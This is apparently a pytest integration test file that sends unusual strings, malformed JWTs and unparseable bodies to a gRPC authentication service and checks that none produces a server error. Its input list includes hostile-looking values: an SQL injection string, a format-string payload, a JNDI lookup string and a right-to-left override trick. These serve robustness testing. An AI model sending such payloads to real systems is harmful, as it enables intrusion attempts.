"""Nothing a client can put in a request makes the service fail with a server error.

Every RPC gets strange values in every string field (empty, blank, huge, NUL, control and
combining characters, case-changing letters, injection-looking text, impossible dates) and
strange credentials; each call must end with a client-error status or succeed.
"""

from __future__ import annotations

import uuid
from typing import Any

import grpc
import pytest
from cake.auth.v1 import auth_pb2

pytestmark = pytest.mark.integration

WEIRD_STRINGS = [
    "",
    " ",
    "\t\n\r",
    "\x00",
    "ada\x00lovelace",
    "\x01\x02\x7f",
    "😀" * 40,
    "é" * 300,
    "a" * 10_000,
    "x" * 1_000_000,
    "\u202eevil\u202c",
    "Z̸̢͖̩a̶l̸g̵o̶",
    "İSTANBUL",  # lower() makes it longer
    "ǅungla ß",
    "' OR 1=1 --",
    "%s%n%x",
    "${jndi:ldap://example.invalid/a}",
    "\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18",  # full-width digits
    "+84 912-345-678",
    "+",
    "--------",
    "user@example.com",
    "a@b",
    "0000-00-00",
    "2000-02-30",
    "9999-12-31",
    "0001-01-01",
    "1990-05-17",
    "-001-01-01",
    "2024-1-1",
]

SERVER_ERRORS = {
    grpc.StatusCode.INTERNAL,
    grpc.StatusCode.UNKNOWN,
    grpc.StatusCode.DATA_LOSS,
    grpc.StatusCode.UNIMPLEMENTED,
}


async def _outcome(call: Any) -> grpc.StatusCode:
    try:
        await call
    except grpc.aio.AioRpcError as error:
        return error.code()
    return grpc.StatusCode.OK


def _assert_no_server_errors(outcomes: dict[str, grpc.StatusCode]) -> None:
    failures = {case: code for case, code in outcomes.items() if code in SERVER_ERRORS}
    assert failures == {}


async def test_register_with_strange_values(auth: Any) -> None:
    outcomes = {}
    for field in ("fullname", "email", "username", "phone", "password", "birthday"):
        for value in WEIRD_STRINGS:
            request = auth.registration()
            setattr(request, field, value)
            outcomes[f"{field}={value[:20]!r}"] = await _outcome(auth.stub.Register(request))
    _assert_no_server_errors(outcomes)
    # The matrix really contains accepted values, not only rejected ones.
    assert grpc.StatusCode.OK in outcomes.values()
    assert grpc.StatusCode.INVALID_ARGUMENT in outcomes.values()


async def test_login_with_strange_values(auth: Any) -> None:
    # A password no other account of this module has: a success can only be this user's.
    password = f"only-mine-{uuid.uuid4().hex}"
    user = (await auth.register(password=password)).user
    outcomes = {}
    for value in WEIRD_STRINGS:
        for request in (
            auth_pb2.LoginRequest(account=value, password=password),
            auth_pb2.LoginRequest(account=user.username, password=value),
        ):
            outcomes[str(request)[:60]] = await _outcome(auth.stub.Login(request))
    _assert_no_server_errors(outcomes)
    # With the right password an injection-looking account logs no one in, and no strange
    # password is the user's: not one of these may succeed.
    logged_in = [case for case, code in outcomes.items() if code is grpc.StatusCode.OK]
    assert logged_in == []
    assert grpc.StatusCode.UNAUTHENTICATED in outcomes.values()


async def test_profile_update_with_strange_values(auth: Any) -> None:
    registered = await auth.register()
    caller = auth.bearer(registered.access_token)
    outcomes = {}
    for field in ("fullname", "email", "phone", "birthday"):
        for value in WEIRD_STRINGS:
            request = auth_pb2.UpdateProfileRequest(**{field: value})
            outcomes[f"{field}={value[:20]!r}"] = await _outcome(
                auth.stub.UpdateProfile(request, metadata=caller)
            )
    _assert_no_server_errors(outcomes)
    assert grpc.StatusCode.OK in outcomes.values()


STRANGE_AUTHORIZATIONS = [
    "",
    "Bearer",
    "Bearer ",
    "bearer x.y.z",
    "Bearer ....",
    "Bearer e30.e30.",  # {} . {} . no signature
    "Bearer eyJhbGciOiJFUzI1NiJ9.e30.AAAA",
    "Bearer eyJhbGciOiJFUzI1NiIsImtpZCI6W119.e30.AAAA",  # kid is a list
    "Bearer eyJhbGciOiJFUzI1NiIsImtpZCI6eyJ4IjoxfX0.e30.AAAA",  # kid is an object
    "Bearer eyJhbGciOjF9.e30.AAAA",  # alg is a number
    "Bearer " + "A" * 4000,  # grpc refuses much larger metadata itself (RESOURCE_EXHAUSTED)
    "Token abc",
    "Bearer a.b.c.d.e",
]


async def test_every_rpc_with_strange_credentials(auth: Any) -> None:
    calls = {
        "GetProfile": lambda md: auth.stub.GetProfile(auth_pb2.GetProfileRequest(), metadata=md),
        "UpdateProfile": lambda md: auth.stub.UpdateProfile(
            auth_pb2.UpdateProfileRequest(fullname="x"), metadata=md
        ),
        "RefreshToken": lambda md: auth.stub.RefreshToken(
            auth_pb2.RefreshTokenRequest(), metadata=md
        ),
        "Logout": lambda md: auth.stub.Logout(auth_pb2.LogoutRequest(), metadata=md),
        "GetJwks": lambda md: auth.stub.GetJwks(auth_pb2.GetJwksRequest(), metadata=md),
        "Login": lambda md: auth.stub.Login(
            auth_pb2.LoginRequest(account="nobody", password="secret"), metadata=md
        ),
    }
    outcomes = {}
    for name, call in calls.items():
        for authorization in STRANGE_AUTHORIZATIONS:
            metadata = (
                ("authorization", authorization),
                ("user-agent", authorization[:100]),
                ("x-cake-client-ip", authorization[:100]),
                ("traceparent", authorization[:100]),
                ("x-request-id", authorization[:100]),
            )
            outcomes[f"{name} {authorization[:30]!r}"] = await _outcome(call(metadata))
    _assert_no_server_errors(outcomes)
    # Authenticated RPCs refuse all of them; the public ones do not care.
    for case, code in outcomes.items():
        if case.startswith(("GetProfile", "UpdateProfile", "RefreshToken", "Logout")):
            assert code == grpc.StatusCode.UNAUTHENTICATED, case


async def test_tokens_for_users_that_do_not_exist(auth: Any, signing_key: Any) -> None:
    """Validly signed tokens whose subject is no user (ids at the edges of int64)."""
    import time

    import jwt

    outcomes = {}
    for subject in ("0", "999999999", "9223372036854775807", "9223372036854775808", "1" * 40):
        now = int(time.time())
        token = jwt.encode(
            {
                "sub": subject,
                "role": "user",
                "iss": "cake-system",
                "aud": "cake-users",
                "iat": now,
                "exp": now + 60,
                "jti": str(uuid.uuid4()),
                "sid": uuid.uuid4().hex,
            },
            signing_key.private_key,
            algorithm="ES256",
            headers={"kid": signing_key.kid},
        )
        for name, call in (
            (
                "get",
                auth.stub.GetProfile(auth_pb2.GetProfileRequest(), metadata=auth.bearer(token)),
            ),
            (
                "update",
                auth.stub.UpdateProfile(
                    auth_pb2.UpdateProfileRequest(fullname="ghost"), metadata=auth.bearer(token)
                ),
            ),
        ):
            outcomes[f"{name} sub={subject}"] = await _outcome(call)
    _assert_no_server_errors(outcomes)
    assert outcomes["get sub=999999999"] == grpc.StatusCode.NOT_FOUND


async def test_every_rpc_with_bytes_that_are_not_its_request_message(auth: Any) -> None:
    """Internal callers speak gRPC directly: a body that does not parse as the method's
    request message (here a field that announces more bytes than it carries) is a client
    error naming the expected message, never UNKNOWN."""
    service = auth_pb2.DESCRIPTOR.services_by_name["AuthService"]
    outcomes = {}
    for method in service.methods:
        call = auth.channel.unary_unary(f"/{service.full_name}/{method.name}")
        try:
            await call(b"\x0a\x05ab")
        except grpc.aio.AioRpcError as error:
            outcomes[method.name] = (error.code(), error.details())
    assert outcomes == {
        method.name: (
            grpc.StatusCode.INVALID_ARGUMENT,
            f"request body is not a valid {method.input_type.full_name} message",
        )
        for method in service.methods
    }
